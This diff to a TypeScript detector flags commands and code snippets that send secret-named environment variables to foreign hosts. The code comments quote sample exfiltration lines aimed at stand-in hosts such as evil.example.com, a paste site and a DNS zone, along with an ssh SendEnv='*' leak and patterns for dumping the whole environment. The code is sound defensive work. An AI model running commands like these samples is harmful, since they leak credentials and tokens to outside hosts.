@@ -2,6 +2,8 @@ import { ownTable } from '../../ownTable';
 import { providerIn } from '../../credentials/contentRules';
 import type { CodeSnippet, Finding, Invocation, Target } from '../../policy/types';
 import { isSecretVariableName, positionals, secretRoleOf } from './huntCommon';
+import { carriedOut } from './sentOutCarriers';
+import { freeFormReadings } from '../../registry/freeForm';
 
 // ---------------------------------------------------------------------------------------------
 // Secrets sent to a host that is not their own service
@@ -14,7 +16,7 @@ const NETWORK_SENDERS = new Set(['curl', 'wget', 'http', 'https', 'xh', 'xhs', '
   // HTTP, gRPC and WebSocket clients whose request items, headers or messages carry what they are given.
   'wget2', 'curlie', 'restish', 'grpcurl', 'websocat', 'wscat', 'hurl',
   // Message buses, mailers and notifiers: the message goes to the broker or server named.
-  'mosquitto_pub', 'nats', 'swaks', 'apprise', 'ntfy', 'kcat', 'kafkacat',
+  'mosquitto_pub', 'nats', 'swaks', 'apprise', 'ntfy', 'kcat', 'kafkacat', 'amqp-publish', 'rabbitmqadmin', 'pulsar-client', 'redis-sentinel',
   // A remote shell and database clients: a value in their words goes to the host they connect to.
   'ssh', ...DATABASE_CLIENTS,
   // Registry logins: the password or token goes to the registry host named (`docker login host --password-stdin <<< "$T"`).
@@ -56,10 +58,8 @@ function destinationsOf(inv: Invocation): Destination[] {
   }
   // A host option's value (`-h evil.example.com`, `--to a@evil.example.com`), or the first bare word shaped
   // like a host of an HTTPie-style client or ssh (`xh post evil.example.com token=$X`).
-  for (let i = 0; i < inv.args.length; i++) {
-    const t = (inv.args[i] as (typeof inv.args)[number]).text;
-    const eq = /^(--[a-z-]+)=(.*)$/.exec(t);
-    const value = HOST_OPTIONS.has(t) ? inv.args[i + 1]?.text : eq && HOST_OPTIONS.has(eq[1] ?? '') ? eq[2] : undefined;
+  for (const o of freeFormReadings(inv.args).valued.options) {
+    const value = HOST_OPTIONS.has(o.written) || HOST_OPTIONS.has(o.name) ? o.values[0] : undefined;
     const host = value !== undefined ? HOST_SHAPE.exec(value)?.[1] : undefined;
     if (host) out.push({ host: host.toLowerCase() });
   }
@@ -89,16 +89,16 @@ function destinationsOf(inv: Invocation): Destination[] {
 }
 
 /** Secret-named variables a command sends: in its arguments (not the URL's host), a here-string or heredoc. */
-function secretVariablesSent(inv: Invocation): string[] {
-  const texts: string[] = [];
-  for (const a of inv.args) {
+function secretVariablesSent(inv: Invocation, carried?: readonly string[]): string[] {
+  const texts: string[] = carried ? [...carried] : [];
+  for (const a of carried ? [] : inv.args) {
     // The URL's own path and query may carry the service's key (`bot$TG_TOKEN`): that is where it belongs,
     // which `belongsTo` judges by the URL's host (a drop host's own API path is left to it).
     const urlHost = /^['"]?(?:https?|wss?):\/\/(?:[^/@\s]*@)?([^/:?#\s'"]+)/i.exec(a.raw)?.[1];
     if (urlHost !== undefined && DROP_HOSTS.test(urlHost)) continue;
     texts.push(a.raw);
   }
-  if (inv.stdin?.kind === 'herestring' || inv.stdin?.kind === 'heredoc') texts.push(inv.stdin.text);
+  if (!carried && (inv.stdin?.kind === 'herestring' || inv.stdin?.kind === 'heredoc')) texts.push(inv.stdin.text);
   const out: string[] = [];
   for (const t of texts) {
     for (const m of t.matchAll(/\$\{?([A-Za-z_][A-Za-z0-9_]*)/g)) {
@@ -155,7 +155,9 @@ export function domainOwner(host: string): string | undefined {
 
 /** `ssh -o SendEnv='*' host`: every variable of this environment offered to the host (a server of the agent's choosing accepts them). */
 function sshSendsEnvironment(inv: Invocation): Finding[] {
-  const options = inv.args.map((a, i) => (a.text === '-o' ? inv.args[i + 1]?.text ?? '' : a.text.startsWith('-o') ? a.text.slice(2) : '')).filter((o) => o !== '');
+  // `-o SendEnv=*` through the grammar; `-oSendEnv=*` glued, by its spelling.
+  const spaced = freeFormReadings(inv.args).valued.options.filter((o) => o.written === '-o').map((o) => o.values[0] ?? '');
+  const options = [...spaced, ...inv.args.map((a) => /^-o(.+)$/.exec(a.text)?.[1] ?? '')].filter((o) => o !== '');
   if (!options.some((o) => /^SendEnv\s*[= ]\s*(.*\s)?['"]?[A-Za-z_]*\*/i.test(o))) return [];
   const host = destinationsOf(inv).map((d) => d.host).find((h) => h !== undefined && !LOOPBACK.test(h));
   if (host === undefined) return [];
@@ -169,12 +171,13 @@ function sshSendsEnvironment(inv: Invocation): Finding[] {
 }
 
 export function checkSentOut(inv: Invocation): Finding[] {
-  if (!NETWORK_SENDERS.has(inv.name)) return [];
+  const carried = NETWORK_SENDERS.has(inv.name) ? undefined : carriedOut(inv);
+  if (!NETWORK_SENDERS.has(inv.name) && !carried) return [];
   if (REGISTRY_LOGINS.includes(inv.name) && !positionals(inv.args).includes('login')) return [];
   if (inv.name === 'ssh') { const whole = sshSendsEnvironment(inv); if (whole.length > 0) return whole; }
-  const variables = secretVariablesSent(inv);
+  const variables = secretVariablesSent(inv, carried?.texts);
   if (variables.length === 0) return [];
-  const destinations = destinationsOf(inv);
+  const destinations: Destination[] = carried ? carried.hosts.map((host) => ({ host })) : destinationsOf(inv);
   const findings: Finding[] = [];
   for (const variable of variables) {
     for (const d of destinations) {
@@ -198,18 +201,21 @@ export function checkSentOut(inv: Invocation): Finding[] {
 
 const WHOLE = 'ENV (every environment variable)';
 const WHOLE_ENVIRONMENT = /\bENV\.(to_h|to_hash|to_a|inspect|each)\b|\\?%ENV\b|\bgetenv\(\s*\)|\b(dict|str|repr|json\.dumps)\(\s*os\.environ\s*\)|JSON\.stringify\(\s*process\.env\s*\)|\bDeno\.env\.toObject\(\s*\)|\$_ENV\b|\$_SERVER\b/;
+const SOCKET_CLIENT = /\.connect\s*\(|\b(smtplib\.SMTP(_SSL)?|socket\.create_connection|createConnection|IO::Socket|Net::(SMTP|FTP|Telnet)|TCPSocket|fsockopen|stream_socket_client|HTTPS?Connection|ftplib\.FTP|telnetlib)\b/;
 const DNS_LOOKUP = /\b(gethostbyname|getaddrinfo|Resolv|resolver\.(resolve|query)|InetAddress\.getByName|net\.LookupHost)\b|\bdns\b[^;]{0,40}\.(resolve\w*|lookup)\s*\(/;
 
 /** `urlopen('https://paste…', data=os.environ['OPENAI_API_KEY'])`: a snippet sending a secret-named variable to a foreign host. */
 export function checkSnippetSentOut(snippet: CodeSnippet): Finding[] {
   const text = snippet.text;
-  const variables = [...text.matchAll(/(?:environ(?:\.get)?\s*[[(]\s*|getenv\(\s*|process\.env\.|process\.env\[\s*|ENV\[\s*|Deno\.env\.get\(\s*)['"]?([A-Za-z_][A-Za-z0-9_]*)/g)].map((m) => m[1] ?? '').filter(isSecretVariableName);
+  const variables = [...text.matchAll(/(?:environ(?:\.get)?\s*[[(]\s*|getenv\(\s*|process\.env\.|process\.env\[\s*|ENV\[\s*|\$ENV\{\s*|Deno\.env\.get\(\s*)['"]?([A-Za-z_][A-Za-z0-9_]*)/g)].map((m) => m[1] ?? '').filter(isSecretVariableName);
   // The whole environment handed over (`ENV.to_h`, `%ENV`, `getenv()`, `dict(os.environ)`, `process.env` whole): every secret in it.
   if (WHOLE_ENVIRONMENT.test(text)) variables.push(WHOLE);
   if (variables.length === 0) return [];
   const hosts = [...text.matchAll(/(?:https?|wss?):\/\/([^/:?#'"\s]+)/g)].map((m) => (m[1] ?? '').toLowerCase());
   // A name looked up in DNS (`gethostbyname(key + '.evil.example')`): the suffix it is joined to is the receiving zone.
   if (DNS_LOOKUP.test(text)) for (const m of text.matchAll(/['"]\.([a-z0-9-]+(?:\.[a-z0-9-]+)+)['"]/gi)) hosts.push((m[1] ?? '').toLowerCase());
+  // A socket or mail client given a host name (`smtplib.SMTP('mx.example')`, `net.connect(80, 'h.example')`): that host receives what is written.
+  if (SOCKET_CLIENT.test(text)) for (const m of text.matchAll(/['"]((?:[a-z0-9-]+\.)+[a-z]{2,})(?::\d+)?['"]/gi)) hosts.push((m[1] ?? '').toLowerCase());
   for (const variable of variables) {
     for (const host of hosts) {
       const own = variable === WHOLE ? (/^(localhost|127\.[\d.]+|\[::1\])$/.test(host) ? true : false) : belongsTo(variable, { host });
